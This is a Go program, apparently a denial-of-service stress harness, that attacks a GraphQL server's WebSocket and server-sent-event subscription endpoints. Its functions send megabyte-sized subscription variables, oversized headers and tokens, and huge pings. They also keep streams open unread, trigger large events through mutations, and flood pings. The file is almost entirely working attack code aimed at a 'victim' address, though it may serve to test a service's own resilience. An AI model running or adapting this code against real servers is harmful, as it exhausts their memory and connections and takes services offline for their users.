package main

import (
	"bufio"
	"encoding/binary"
	"fmt"
	"io"
	"net"
	"net/http"
	"strings"
	"time"
)

// subscriberAttacks are attacks by clients that stay connected over WebSocket or as event
// streams.
var subscriberAttacks = []attack{
	{"subscriptions", 6, func(a *victim) { a.subscribeOften() }},
	{"live queries", 10, func(a *victim) { a.subscribeDifferently() }},
	{"event streams", 300, func(a *victim) { a.stream(largeVariable(), "X-Junk: "+strings.Repeat("x", 60_000)+"\r\n") }},
	{"unread events", 50, func(a *victim) { a.streamUnread() }},
	{"long headers", 600, func(a *victim) { a.connectIdle() }},
	{"large pings", 600, func(a *victim) { a.pingUnread() }},
	{"floods of pings", 2, func(a *victim) { a.flood() }},
}

const stay = 20 * time.Second // how long an attacker stays connected

// largeVariable returns a body that subscribes, with a variable that is not declared.
func largeVariable() string {
	return `{"query":"subscription{portfolioLinkChanged(id:1){name}}","variables":{"a":"` + strings.Repeat("x", 1_000_000) + `"}}`
}

// webSocket is a client of the subprotocol graphql-transport-ws.
type webSocket struct {
	net.Conn
	lines *bufio.Reader
}

// openWebSocket opens a WebSocket, and authenticates unless key is empty.
func (a *victim) openWebSocket(header, key string) *webSocket {
	connection, err := net.Dial("tcp", a.address)
	if err != nil {
		a.count("no connection")
		return nil
	}
	_ = connection.(*net.TCPConn).SetReadBuffer(4 << 10)
	_ = connection.SetDeadline(time.Now().Add(time.Minute))
	s := &webSocket{connection, bufio.NewReader(connection)}
	_, _ = fmt.Fprintf(connection, "GET /graphql HTTP/1.1\r\nHost: h\r\nConnection: Upgrade\r\nUpgrade: websocket\r\nSec-WebSocket-Version: 13\r\n"+
		"Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\nSec-WebSocket-Protocol: graphql-transport-ws\r\n%s\r\n", header)
	response, err := http.ReadResponse(s.lines, nil)
	if err != nil || response.StatusCode != http.StatusSwitchingProtocols {
		_ = connection.Close()
		a.count("no WebSocket")
		return nil
	}
	if key != "" {
		s.send(`{"type":"connection_init","payload":{"Authorization":"Token` + key + `"}}`)
	}
	return s
}

// send sends a text, masked by zeros, and reports whether the connection is open.
func (s *webSocket) send(text string) bool {
	frame := append([]byte{0x81, 0x80 | 127}, binary.BigEndian.AppendUint64(nil, uint64(len(text)))...)
	_, err := s.Write(append(append(frame, 0, 0, 0, 0), text...))
	return err == nil
}

// disconnect closes the connection after a while, and counts it.
func (a *victim) disconnect(connection net.Conn, status string) {
	time.Sleep(stay)
	_ = connection.Close()
	a.count(status)
}

// subscribeOften subscribes to one link with large variables.
func (a *victim) subscribeOften() {
	s := a.openWebSocket("", " "+token)
	if s == nil {
		return
	}
	defer a.disconnect(s, "subscribed")
	go func() { _, _ = io.Copy(io.Discard, s.lines) }()
	body := largeVariable()
	for i := range 100 {
		if !s.send(fmt.Sprintf(`{"id":"%d","type":"subscribe","payload":%s}`, i, body)) {
			return
		}
	}
}

// subscribeDifferently subscribes to documents that differ and are as large as possible.
func (a *victim) subscribeDifferently() {
	s := a.openWebSocket("", " "+token)
	if s == nil {
		return
	}
	defer a.disconnect(s, "subscribed")
	go func() { _, _ = io.Copy(io.Discard, s.lines) }()
	for i := range 100 {
		if !s.send(fmt.Sprintf(`{"id":"%d","type":"subscribe","payload":{"query":"subscription Q%d{%sportfolioLinkChanged(id:1){name}}"}}`,
			i, time.Now().UnixNano(), strings.Repeat(" ", 60_000))) {
			return
		}
	}
}

// openStream subscribes as server-sent events, and returns the connection, whose response is
// not read.
func (a *victim) openStream(body, header string) net.Conn {
	connection, err := net.Dial("tcp", a.address)
	if err != nil {
		a.count("no connection")
		return nil
	}
	_ = connection.(*net.TCPConn).SetReadBuffer(4 << 10)
	_ = connection.SetDeadline(time.Now().Add(time.Minute))
	_, _ = fmt.Fprintf(connection, "POST /graphql HTTP/1.1\r\nHost: h\r\nAuthorization: Token %s\r\nAccept: text/event-stream\r\n"+
		"Content-Type: application/json\r\nContent-Length: %d\r\n%s\r\n%s", token, len(body), header, body)
	return connection
}

// stream subscribes as server-sent events, and reads the first one.
func (a *victim) stream(body, header string) {
	connection := a.openStream(body, header)
	if connection == nil {
		return
	}
	status := make([]byte, len("HTTP/1.1 200"))
	_, _ = io.ReadFull(connection, status)
	a.disconnect(connection, string(status[9:])+" streamed")
}

// streamUnread subscribes to large events, causes some, and reads none.
func (a *victim) streamUnread() {
	connection := a.openStream(document(`subscription{portfolioLinkChanged(id:`+largeLink+`){`+numbered(20, " a%d:description")+`}}`), "")
	if connection == nil {
		return
	}
	a.query(fmt.Sprintf(`mutation{updatePortfolioLink(input:{id:%s,name:"%d"}){portfolioLink{id}}}`, largeLink, time.Now().UnixNano()))
	a.disconnect(connection, "unread")
}

// connectIdle opens a WebSocket with a header and a token that are as long as possible.
func (a *victim) connectIdle() {
	if s := a.openWebSocket("X-Junk: "+strings.Repeat("x", 60_000)+"\r\n", strings.Repeat(" ", 120_000)+token); s != nil {
		a.disconnect(s, "idle")
	}
}

// pingUnread sends large pings, and reads no pong.
func (a *victim) pingUnread() {
	s := a.openWebSocket("", " "+token)
	if s == nil {
		return
	}
	defer a.disconnect(s, "pinged")
	_, _ = s.lines.ReadByte() // of the acknowledgement: messages may be large from now on
	for ping := `{"type":"ping","payload":"` + strings.Repeat("x", 1_000_000) + `"}`; s.send(ping); {
	}
}

// flood sends pings until the server closes the connection.
func (a *victim) flood() {
	s := a.openWebSocket("", "")
	if s == nil {
		return
	}
	defer func() { _ = s.Close() }()
	go func() { _, _ = io.Copy(io.Discard, s.lines) }()
	for s.send(`{"type":"ping"}`) {
	}
	a.count("flooded")
}
